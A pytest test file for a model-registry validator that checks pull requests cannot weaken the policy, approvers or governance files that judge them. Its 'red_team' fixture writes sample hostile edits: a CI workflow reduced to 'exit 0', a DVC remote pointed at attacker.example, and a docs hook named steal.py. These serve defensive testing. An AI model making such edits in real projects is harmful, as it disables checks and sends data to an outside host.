"""Issue 10, classes 1-3 and 7: a pull request cannot loosen the rules or the check that judge it.

Each attack is a real pull request: a base commit on main, a head commit on a branch,
validated from git objects exactly as CI does (``validate_change(root, "main", "pr")``).
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from builders import commit, git, small_registry_at, write_version
from registry_gen.cli import main
from registry_gen.codeowners import write_codeowners
from registry_gen.store import load_index
from registry_gen.validate import Report, validate_change, validate_tree
from registry_gen.validate._governance import GOVERNANCE_PATTERNS, is_governance_file, matches

STAGES = "stages: [None, Staging, Production, Archived]\n"
POLICY = (
    STAGES + "single_holder: [Production]\n"
    "approvers:\n  Production: ['@ml-leads']\n"
    "admins: ['@org/registry-admins']\n"
)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """churn v1 Archived, v2 Staging, v3 Production (@champion); fraud v1 None."""
    root = small_registry_at(tmp_path_factory.mktemp("template") / "registry", policy=POLICY)
    (root / ".github/workflows").mkdir(parents=True)
    (root / ".github/workflows/validate.yml").write_text("name: validate\n")
    (root / ".dvc").mkdir()
    (root / ".dvc/config").write_text("[core]\n    remote = storage\n")
    (root / "mkdocs.yml").write_text("site_name: Models\n")
    write_codeowners(root, load_index(root))
    commit(root, "governance files")
    return root


@pytest.fixture
def repo(template: Path, tmp_path: Path) -> Path:
    root = tmp_path / "registry"
    shutil.copytree(template, root, symlinks=True)
    return root


def pr(root: Path, edit: Callable[[Path], object]) -> Report:
    git(root, "checkout", "-q", "-b", "pr", "main")
    edit(root)
    commit(root, "the pull request")
    return validate_change(root, "main", "pr")


def replace_in(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, text
    path.write_text(text.replace(old, new))


def errors(report: Report) -> set[str]:
    return {f.code for f in report.errors}


# ---------------------------------------------------------------------------
# Class 2: a PR's own registry.yaml never loosens the rules that judge it


def test_renaming_production_does_not_let_a_version_jump_into_it(repo: Path) -> None:
    def attack(root: Path) -> None:
        (root / "registry.yaml").write_text(
            "stages: [None, Staging, PRODUCTION, Archived]\n"
            "transitions:\n  None: [Staging, PRODUCTION, Archived]\n"
            "  Staging: [None, PRODUCTION, Archived]\n  PRODUCTION: [Staging, Archived]\n"
            "  Archived: [None, Staging, PRODUCTION]\n"
            "single_holder: [PRODUCTION]\nrequires: {}\n"
            "admins: ['@org/registry-admins']\n"
        )
        replace_in(root / "models/churn/3/version.yaml", "stage: Production", "stage: PRODUCTION")
        # fraud v1 has no description and no metrics and jumps None → PRODUCTION.
        replace_in(root / "models/fraud/1/version.yaml", "stage: None", "stage: Archived")
        write_version(root, "fraud", 2, stage="PRODUCTION")

    report = pr(repo, attack)
    by_code = {(f.code, f.file) for f in report.errors}
    assert ("RG403", "models/fraud/2/version.yaml") in by_code  # new version straight in
    assert ("RG402", "models/churn/3/version.yaml") in by_code  # Production → PRODUCTION
    assert ("RG401", "models/fraud/2/version.yaml") in by_code  # unknown to the base
    assert "write 'Production'" in next(f.message for f in report.errors if f.code == "RG401")
    assert any(f.code == "RG804" and f.file == "registry.yaml" for f in report.warnings)


def test_dropping_single_holder_does_not_allow_two_in_production(repo: Path) -> None:
    def attack(root: Path) -> None:
        replace_in(root / "registry.yaml", "single_holder: [Production]", "single_holder: []")
        write_version(
            root, "churn", 2, stage="Production", metrics={"auc": 0.86}, description="Second."
        )

    report = pr(repo, attack)
    assert "RG404" in errors(report)


def test_loosening_requires_does_not_let_a_bare_version_into_production(repo: Path) -> None:
    def attack(root: Path) -> None:
        (root / "registry.yaml").write_text(POLICY + "requires: {}\n")
        replace_in(root / "models/fraud/1/version.yaml", "stage: None", "stage: Production")

    report = pr(repo, attack)
    rg405 = [f for f in report.errors if f.code == "RG405"]
    assert [f.file for f in rg405] == ["models/fraud/1/version.yaml"]
    assert "a description and metrics" in rg405[0].message


def test_allowing_aliases_on_archived_versions_does_not_apply_to_itself(repo: Path) -> None:
    def attack(root: Path) -> None:
        (root / "registry.yaml").write_text(POLICY + "alias_forbidden_stages: []\n")
        replace_in(root / "models/churn/model.yaml", "champion: 3", "champion: 1")

    report = pr(repo, attack)
    assert "RG503" in errors(report)


def test_adding_a_transition_does_not_allow_it_in_the_same_change(repo: Path) -> None:
    def attack(root: Path) -> None:
        (root / "registry.yaml").write_text(
            POLICY + "transitions:\n  None: [Staging, Production, Archived]\n"
            "  Staging: [None, Production, Archived]\n  Production: [Staging, Archived]\n"
            "  Archived: [None, Staging, Production]\n"
        )
        replace_in(root / "models/churn/3/version.yaml", "stage: Production", "stage: Archived")
        replace_in(root / "models/churn/1/version.yaml", "stage: Archived", "stage: Production")
        replace_in(root / "models/churn/model.yaml", "champion: 3", "champion: 1")

    report = pr(repo, attack)
    assert [f.file for f in report.errors if f.code == "RG402"] == ["models/churn/1/version.yaml"]


def test_naming_yourself_approver_does_not_change_who_must_approve(repo: Path) -> None:
    def attack(root: Path) -> None:
        replace_in(root / "registry.yaml", "Production: ['@ml-leads']", "Production: ['@me']")
        replace_in(root / "registry.yaml", "admins: ['@org/registry-admins']", "admins: ['@me']")
        replace_in(root / "models/churn/3/version.yaml", "stage: Production", "stage: Archived")
        replace_in(root / "models/churn/2/version.yaml", "stage: Staging", "stage: Production")
        replace_in(root / "models/churn/model.yaml", "champion: 3", "champion: 2")
        write_codeowners(root, load_index(root))

    report = pr(repo, attack)
    approvals = " ".join(f.message for f in report.notices if f.code == "RG801")
    assert "@ml-leads" in approvals and "@me" not in approvals
    governance = [f for f in report.warnings if f.code == "RG804"]
    assert {f.file for f in governance} == {"registry.yaml", ".github/CODEOWNERS"}
    assert all("@org/registry-admins" in f.message and "@me" not in f.message for f in governance)


def test_a_tightened_policy_also_judges_the_tree(repo: Path) -> None:
    """A PR that adds a requirement must leave the registry valid under it too."""

    def tighten(root: Path) -> None:
        (root / "registry.yaml").write_text(
            POLICY + "requires:\n  Production: {description: true, metrics: true, "
            "signature: true}\n"
        )

    report = pr(repo, tighten)
    rg405 = [f for f in report.errors if f.code == "RG405"]
    assert [f.file for f in rg405] == ["models/churn/3/version.yaml"]


def test_findings_both_policies_agree_on_are_reported_once(repo: Path) -> None:
    def change(root: Path) -> None:
        (root / "registry.yaml").write_text(POLICY + "max_git_file_bytes: 300000\n")
        write_version(root, "churn", 5)  # skips v4

    report = pr(repo, change)
    assert [f.code for f in report.errors].count("RG302") == 1


def test_a_change_that_leaves_the_policy_alone_passes(repo: Path) -> None:
    def good(root: Path) -> None:
        write_version(root, "fraud", 2, stage="Staging")

    report = pr(repo, good)
    assert not report.errors and not report.warnings, report.findings


# ---------------------------------------------------------------------------
# Classes 1, 3 (.dvc/config) and 7 (mkdocs.yml): governance changes need the admins


def red_team(root: Path) -> None:
    (root / ".github/workflows/validate.yml").write_text(
        "name: validate\non: pull_request\njobs:\n  v:\n    runs-on: ubuntu-latest\n"
        "    steps:\n      - run: exit 0\n"
    )
    (root / ".dvc/config").write_text(
        "[core]\n    remote = evil\n['remote \"evil\"']\n    url = https://attacker.example/\n"
    )
    (root / "mkdocs.yml").write_text("site_name: Models\nhooks: [docs/hooks/steal.py]\n")
    (root / "docs/hooks").mkdir(parents=True)
    (root / "docs/hooks/steal.py").write_text("import os\n")


def test_a_red_team_pull_request_is_a_governance_change_for_the_admins(repo: Path) -> None:
    report = pr(repo, red_team)
    governance = {f.file: f for f in report.findings if f.code == "RG804"}
    assert set(governance) == {
        ".github/workflows/validate.yml",
        ".dvc/config",
        "mkdocs.yml",
        "docs/hooks/steal.py",
    }
    for finding in governance.values():
        assert finding.severity == "warning"
        assert "@org/registry-admins" in finding.message
    assert not report.failed() and report.failed(strict=True)


def test_the_github_report_annotates_each_governance_file(repo: Path) -> None:
    git(repo, "checkout", "-q", "-b", "pr", "main")
    red_team(repo)
    commit(repo, "red team")
    result = CliRunner().invoke(
        main, ["-C", str(repo), "validate", "--base", "main", "--head", "pr", "--format", "github"]
    )
    assert result.exit_code == 0, result.output
    assert "::warning file=.dvc/config,title=RG804 governance-change::" in result.output
    assert "::warning file=.github/workflows/validate.yml,title=RG804" in result.output


def test_without_admins_the_finding_says_nobody_is_required(tmp_path: Path) -> None:
    root = small_registry_at(tmp_path / "r", policy=STAGES)
    report = pr(root, lambda r: (r / ".dvcignore").write_text("*.tmp\n"))
    finding = next(f for f in report.warnings if f.code == "RG804")
    assert "names no admins" in finding.message and "registry-gen codeowners" in finding.message


def test_changes_under_models_are_not_governance_changes(repo: Path) -> None:
    report = pr(repo, lambda r: write_version(r, "fraud", 2))
    assert not [f for f in report.findings if f.code == "RG804"]


@pytest.mark.parametrize(
    ("path", "governance"),
    [
        (".github/workflows/validate.yml", True),
        (".github/CODEOWNERS", True),
        ("CODEOWNERS", True),
        ("docs/CODEOWNERS", True),
        ("registry.yaml", True),
        (".dvc/config", True),
        (".dvc/plots/default.json", True),
        (".dvcignore", True),
        ("mkdocs.yml", True),
        ("docs/hooks/x.py", True),
        ("docs/overrides/main.html", True),
        (".pre-commit-config.yaml", True),
        ("requirements.txt", True),
        ("requirements/runtime.lock", True),
        ("package.json", True),
        ("models/churn/1/version.yaml", False),
        ("models/churn/model.yaml", False),
        ("docs/index.md", True),  # raw HTML in a hand-written page reaches the site as written
        ("docs/assets/extra.js", True),
        ("README.md", False),
        ("sub/registry.yaml", False),
        ("sub/.github/x", False),
        (".github", False),
    ],
)
def test_governance_paths(path: str, governance: bool) -> None:
    assert is_governance_file(path) is governance


def test_patterns_follow_codeowners_syntax() -> None:
    assert matches("/.github/", ".github/a/b") and not matches("/.github/", ".github")
    assert matches("/requirements*", "requirements-dev.txt")
    assert not matches("/requirements*", "docs/requirements.txt")
    assert matches("*.py", "a/b/c.py") and not matches("*.py", "a/b.pyc")
    for pattern in GOVERNANCE_PATTERNS:  # GitHub's CODEOWNERS syntax has no "!", "[" or "\"
        assert not set(pattern) & set("![]\\ #"), pattern


# ---------------------------------------------------------------------------
# RG802 accepts exactly what the generator writes, governance section included


def test_generated_codeowners_protects_governance_files_and_passes_rg802(repo: Path) -> None:
    text = (repo / ".github/CODEOWNERS").read_text()
    assert "/.github/ @org/registry-admins\n" in text
    assert "/.dvc/ @org/registry-admins\n" in text
    assert "/mkdocs.yml @org/registry-admins\n" in text
    assert text.rstrip().endswith("CODEOWNERS @org/registry-admins")  # last line wins
    assert "RG802" not in {f.code for f in validate_tree(repo, rev="main").findings}


def test_a_hand_written_governance_line_is_rg802(repo: Path) -> None:
    with (repo / ".github/CODEOWNERS").open("a") as handle:
        handle.write("/.github/ @someone-else\n")
    assert "RG802" in {f.code for f in validate_tree(repo).errors}


def test_codeowners_names_the_approvers_when_there_are_no_admins(tmp_path: Path) -> None:
    root = small_registry_at(
        tmp_path / "r", policy=STAGES + "approvers:\n  Production: ['@ml-leads']\n"
    )
    path, _ = write_codeowners(root, load_index(root))
    assert "/registry.yaml @ml-leads\n" in path.read_text()
